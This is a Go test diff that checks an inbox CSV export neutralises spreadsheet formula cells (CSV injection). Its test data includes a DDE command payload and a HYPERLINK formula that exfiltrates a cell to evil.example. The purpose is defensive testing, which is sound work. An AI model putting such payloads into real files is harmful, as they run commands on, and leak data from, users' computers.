@@ -3,6 +3,7 @@ package inbox_test
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"errors"
 	"fmt"
@@ -788,5 +789,52 @@ func TestReadingDecidesForMessagesToTheBot(t *testing.T) {
 	}
 	if len(replies) != 1 || !strings.Contains(replies[0].Text, "#1") || len(f.post.all()) != 0 {
 		t.Fatalf("replies %+v, posts %+v: want the thanks as the one reply and no post", replies, f.post.all())
+	}
+}
+
+// Test: anyone in chat can write the text of an inbox item, and a
+// spreadsheet runs a cell that starts with = + - @ TAB or CR as a formula
+// (OWASP "CSV injection"): such cells get a leading single quote, and the
+// numbers and dates the export writes itself stay numbers.
+func TestCSVNeutralisesFormulas(t *testing.T) {
+	hostile := []string{`=cmd|' /C calc'!A0`, `=HYPERLINK("https://evil.example/?"&A1,"Click")`, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"}
+	var items []request.Item
+	for i, h := range hostile {
+		items = append(items, request.Item{ID: i + 1, Title: h, Summary: h, Status: request.StatusNew, Tags: []string{h},
+			VoteCount: 2, Created: t0, Updated: t0,
+			Mentions: []request.Mention{{Platform: "web", Channel: h, Text: h, Permalink: h}}})
+	}
+	var buf bytes.Buffer
+	if err := inbox.WriteCSV(&buf, items, t0); err != nil {
+		t.Fatal(err)
+	}
+	back, err := inbox.ReadCSV(&buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, h := range hostile {
+		// encoding/csv does not read a lone \r back as written.
+		norm := strings.NewReplacer("\r", "", "\n", "").Replace
+		want := norm("'" + h)
+		it := back[i]
+		if norm(it.Title) != want || norm(it.Summary) != want || norm(strings.Join(it.Tags, ";")) != want || len(it.Mentions) != 1 || norm(it.Mentions[0].Text) != want {
+			t.Errorf("item %d: title %q, summary %q, tags %q, first request %+v; want each %q", i+1, it.Title, it.Summary, it.Tags, it.Mentions, want)
+		}
+		if it.VoteCount != 2 || it.ID != i+1 {
+			t.Errorf("item %d: numbers changed: id %d votes %d", i+1, it.ID, it.VoteCount)
+		}
+	}
+	buf.Reset()
+	if err := inbox.WriteCSV(&buf, items[:1], t0); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for col, cell := range rows[1] {
+		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+			t.Errorf("column %s = %q: a spreadsheet would run it", inbox.CSVHeader[col], cell)
+		}
 	}
 }
